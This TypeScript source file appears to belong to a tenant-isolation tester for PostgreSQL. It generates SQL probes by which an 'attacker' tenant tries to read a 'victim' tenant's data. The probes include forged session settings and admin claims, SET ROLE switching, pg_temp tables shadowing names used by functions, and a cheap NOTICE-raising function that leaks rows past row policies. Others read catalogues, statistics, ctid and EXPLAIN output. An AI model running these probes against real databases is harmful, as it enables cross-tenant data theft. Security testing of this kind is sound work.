import type { Actor } from './actors.ts';
import { isTable, type Column, type Relation } from './catalogue.ts';
import { calls } from './calls.ts';
import { textsFor } from './matching-text.ts';
import { reads } from './reads.ts';
import { references } from './references.ts';
import type { Step } from './step.ts';
import type { Subject } from './subject.ts';
import { identifier, literal } from './values.ts';

const FLAGS = ['true', 'on', '1', 'admin', 'yes', 't', ''];

/** What only arbitrary SQL can: settings, roles, temporary objects, catalogues, plans. */
export function sqlTier(subject: Subject, victim: Actor, accepted: ReadonlySet<string>, plainRoles: (role: string) => string): Step[] {
  return [
    ...contexts(subject, victim), ...roles(subject, plainRoles), ...shadows(subject), ...predicates(subject), ...largeObjects(subject), ...references(subject), ...catalogues(),
    ...(accepted.has('ctid') ? [] : places(subject)), ...(accepted.has('explain') ? [] : plans(subject)), ...(accepted.has('statistics') ? [] : counters(subject)),
  ];
}

const readAll = (subject: Subject) => reads(subject);

/** Takes the victim's context with what one may know of it, and every setting the world's code reads. */
function contexts(subject: Subject, victim: Actor): Step[] {
  const theirs = Object.entries(subject.contract.tenants[subject.victim] ?? {});
  const secret = theirs.filter(([name]) => /token|secret/i.test(name));
  const own = subject.contract.tenants[subject.attacker ?? ''] ?? {};
  // A secret is not known: one's own stands in its place.
  const forged = victim.enter.map((text) => secret.reduce((sql, [name, value]) => sql.replaceAll(value, own[name] ?? 'x'), text));
  const known = [...new Set([...theirs.filter(([name]) => !/token|secret/i.test(name)).map(([, value]) => value), ...subject.tenantValues()])];
  const claims = JSON.stringify(Object.fromEntries([...theirs.filter(([name]) => !/token|secret/i.test(name)), ['role', 'admin'], ['is_admin', true]]));
  const opened = (setup: string[], object: string): Step[] => readAll(subject).map((read) => ({ ...read, object, verb: 'set', oid: 0, tier: 'sql', channel: 'context', sql: [...setup, read.sql].join('; ') }));
  return [
    ...(forged.length > 0 ? opened(forged, 'the context') : []),
    ...subject.catalogue.settings.flatMap((name) => [...known, ...FLAGS, ...textsFor(codeNaming(subject, name)), claims].flatMap((value) => opened([`SELECT set_config('${name}', ${literal(value, 'text')}, false)`], `setting ${name}`))),
  ];
}

/** Policies and routines that read a setting. */
function codeNaming({ catalogue }: Subject, setting: string): string {
  const code = [...[...catalogue.routines.values()].map(({ source }) => source), ...[...catalogue.relations.values()].flatMap(({ definition, policies }) => [definition, ...policies.map(({ using, check }) => `${using ?? ''} ${check ?? ''}`)])];
  return code.filter((text) => text.includes(setting)).join('\n');
}

/** Every role the login may become; whether the context is kept or not. */
function roles(subject: Subject, plain: (role: string) => string): Step[] {
  const login = [...subject.catalogue.roles.values()].find(({ name }) => name === subject.login);
  return (login?.memberOf ?? []).filter(({ set, role }) => set && role !== subject.role).flatMap(({ role }) => {
    const may = subject.catalogue.rights.get(role);
    return [...subject.catalogue.relations.values()].filter((relation) => may === undefined || may.has(relation.oid)).filter((relation) => !subject.isShared(relation)).map((relation): Step => ({
      object: `role ${plain(role)}`, verb: 'set role', oid: 0, touches: [], tier: 'sql', channel: 'context', sql: `SET ROLE ${identifier(role)}; SELECT * FROM ${relation.sql}`,
    }));
  });
}

/**
 * Temporary relations under the names that functions look up: pg_temp is searched first unless a path says
 * otherwise. They hold every pairing of one's own values with the victim's.
 */
function shadows(subject: Subject): Step[] {
  const named = new Set([...subject.catalogue.routines.keys()].flatMap((oid) => [...subject.reach.named(oid)]));
  const asked = [...readAll(subject), ...calls(subject, false)];
  return [...subject.catalogue.relations.values()].filter((relation) => isTable(relation) && !relation.partition && named.has(relation.oid)).flatMap((relation) => {
    const make = shadow(subject, relation);
    const dependants = subject.reach.affectedBy([relation.oid]);
    return asked.filter(({ oid }) => dependants.has(oid)).map((ask): Step => ({ ...ask, touches: [], tier: 'sql', sql: [...make, ...subject.reenter, ask.sql].join('; ') }));
  });
}

function shadow(subject: Subject, relation: Relation): string[] {
  const name = identifier(relation.name);
  const columns = relation.columns.map((column) => `${identifier(column.name)} ${column.type}`).join(', ');
  const [mine] = subject.rowsOf('attacker', relation);
  const theirs = subject.rowsOf('victim', relation).slice(0, 3);
  const row = (from: (column: string) => string | null) => `(${relation.columns.map((column) => literal(from(column.name), column.type)).join(', ')})`;
  const rows = theirs.flatMap((their) => [
    row((column) => their[column] ?? null),
    ...(mine === undefined ? [] : relation.columns.flatMap(({ name: swapped }) => [
      row((column) => (column === swapped ? their[column] ?? null : mine[column] ?? null)), row((column) => (column === swapped ? mine[column] ?? null : their[column] ?? null)),
    ])),
    // Without a row to copy: the attacker's known values wherever the victim's row says whose it is.
    row((column) => subject.translation('victim').of(their[column] ?? null) ?? their[column] ?? null),
  ]);
  // Rows that live within a transaction only are known to nobody: made up for the victim, as if they were of this one.
  if (theirs.length === 0) rows.push(...new Set(Object.values(subject.contract.tenants[subject.victim] ?? {}).map((value) => `(${relation.columns.map((column) => standIn(subject, column, value)).join(', ')})`)));
  return [`CREATE TEMPORARY TABLE ${name} (${columns})`, `GRANT ALL ON ${name} TO PUBLIC`, ...(rows.length > 0 ? [`INSERT INTO pg_temp.${name} VALUES ${[...new Set(rows)].join(', ')}`] : [])];
}

function standIn({ contract, victim }: Subject, { name, type, base }: Column, value: string): string {
  const text = contract.tenants[victim]?.[name] ?? value;
  if (/^xid/.test(base)) return `pg_catalog.pg_current_xact_id()::${type}`;
  if (/^(timestamp|date)/.test(base)) return `(pg_catalog.now() + interval '1 hour')::${type}`;
  if (base === 'boolean') return 'true';
  if (/^(integer|bigint|smallint)/.test(base)) return /^\d+$/.test(text) ? literal(text, type) : 'pg_catalog.pg_backend_pid()';
  return /^(text|character|name)/.test(base) || (base === 'uuid' && /^[0-9a-f-]{36}$/i.test(text)) ? literal(text, type) : `NULL::${type}`;
}

/** A predicate that costs nothing and reports what it sees, with index scans off. */
function predicates(subject: Subject): Step[] {
  return reads(subject).filter((read) => !read.sql.includes(' ONLY ')).flatMap((read) => {
    const relation = subject.catalogue.relations.get(read.oid);
    const columns = relation === undefined ? [] : subject.columns(relation, 'SELECT');
    // In a view over a join, what asks for columns of both sides is asked after the join; one column is asked at once.
    const asked = relation?.kind === 'v' && columns.length > 1 ? [columns, ...columns.map((name) => [name])] : [columns];
    return asked.map((names): Step => ({
      ...read, tier: 'sql', valuesOnly: true, sql: [
        `CREATE FUNCTION pg_temp.see(text) RETURNS boolean LANGUAGE plpgsql COST 0.0000001 AS 'BEGIN RAISE NOTICE ''%'', $1; RETURN true; END'`,
        'SET LOCAL enable_indexscan = off; SET LOCAL enable_bitmapscan = off; SET LOCAL enable_indexonlyscan = off',
        `SELECT count(*) FROM ${read.sql.split(' FROM ')[1]} r WHERE pg_temp.see(concat_ws(' | ', ${names.map((name) => `r.${identifier(name)}::text`).join(', ')}))`,
      ].join('; '),
    }));
  });
}

function largeObjects({ catalogue }: Subject): Step[] {
  return catalogue.largeObjects.slice(0, 40).map((oid): Step => ({ object: 'large objects', verb: 'select', oid: 0, touches: [], tier: 'sql', sql: `SELECT convert_from(lo_get(${oid}), 'UTF8')` }));
}

/** Names, comments and code of objects: what is named after rows tells of rows. */
function catalogues(): Step[] {
  const step = (object: string, sql: string): Step => ({ object, verb: 'select', oid: 0, touches: [], tier: 'sql', channel: 'catalog', sql });
  const user = `relnamespace NOT IN ('pg_catalog'::regnamespace, 'pg_toast'::regnamespace, 'information_schema'::regnamespace)`;
  return [
    step('pg_class', `SELECT relname FROM pg_catalog.pg_class WHERE ${user} AND relname !~ '^pg_toast'`),
    step('pg_description', `SELECT description FROM pg_catalog.pg_description WHERE objoid >= 16384`),
    step('pg_namespace', 'SELECT nspname FROM pg_catalog.pg_namespace WHERE oid >= 16384 AND nspname !~ \'^pg_(toast_)?temp\''),
    step('pg_proc', 'SELECT proname, prosrc FROM pg_catalog.pg_proc WHERE oid >= 16384'),
    step('pg_policy', 'SELECT polname, pg_catalog.pg_get_expr(polqual, polrelid), pg_catalog.pg_get_expr(polwithcheck, polrelid) FROM pg_catalog.pg_policy'),
    step('pg_constraint', 'SELECT conname, pg_catalog.pg_get_constraintdef(oid) FROM pg_catalog.pg_constraint WHERE oid >= 16384'),
    step('pg_attrdef', 'SELECT pg_catalog.pg_get_expr(adbin, adrelid) FROM pg_catalog.pg_attrdef'),
    step('pg_index', 'SELECT pg_catalog.pg_get_indexdef(indexrelid) FROM pg_catalog.pg_index WHERE indexrelid >= 16384'),
    step('pg_views', `SELECT viewname, definition FROM pg_catalog.pg_views WHERE schemaname NOT IN ('pg_catalog', 'information_schema')`),
    step('pg_class', 'SELECT pg_catalog.pg_get_expr(relpartbound, oid) FROM pg_catalog.pg_class WHERE relispartition'),
    step('pg_enum', 'SELECT enumlabel FROM pg_catalog.pg_enum'),
    step('pg_attribute', 'SELECT attname FROM pg_catalog.pg_attribute WHERE attrelid >= 16384 AND attnum > 0'),
    step('pg_trigger', 'SELECT tgname, pg_catalog.pg_get_triggerdef(oid) FROM pg_catalog.pg_trigger WHERE NOT tgisinternal'),
    step('pg_rules', `SELECT rulename, definition FROM pg_catalog.pg_rules WHERE schemaname NOT IN ('pg_catalog', 'information_schema')`),
    step('pg_stats', `SELECT tablename, attname, most_common_vals::text, histogram_bounds::text FROM pg_catalog.pg_stats WHERE schemaname NOT IN ('pg_catalog', 'information_schema')`),
  ];
}

/** Where a new row lands, and where one's own lie: gaps are other people's rows. */
function places(subject: Subject): Step[] {
  return subject.relations.filter((relation) => relation.kind === 'r' && subject.may(relation, 'SELECT')).map((relation): Step => ({
    object: relation.sql, verb: 'select', oid: 0, touches: [], tier: 'sql', channel: 'ctid', sql: `SELECT ctid FROM ${relation.sql}`,
  }));
}

function plans(subject: Subject): Step[] {
  const off = 'SET LOCAL enable_indexscan = off; SET LOCAL enable_bitmapscan = off; SET LOCAL enable_indexonlyscan = off';
  return reads(subject).flatMap((read): Step[] => [
    { ...read, oid: 0, tier: 'sql', channel: 'explain', verb: 'explain', sql: `${off}; EXPLAIN (ANALYZE, TIMING OFF, SUMMARY OFF, BUFFERS OFF, COSTS OFF) ${read.sql}` },
    { ...read, oid: 0, tier: 'sql', channel: 'explain', verb: 'explain', sql: `EXPLAIN ${read.sql}` },
  ]);
}

function counters(subject: Subject): Step[] {
  return subject.relations.filter(isTable).flatMap((relation): Step[] => [
    `SELECT reltuples, relpages FROM pg_catalog.pg_class WHERE oid = '${relation.sql}'::regclass`, `SELECT pg_catalog.pg_relation_size('${relation.sql}')`,
    `SELECT n_live_tup, n_tup_ins FROM pg_catalog.pg_stat_user_tables WHERE relid = '${relation.sql}'::regclass`,
  ].map((sql) => ({ object: relation.sql, verb: 'select', oid: 0, touches: [], tier: 'sql', channel: 'statistics', sql })));
}
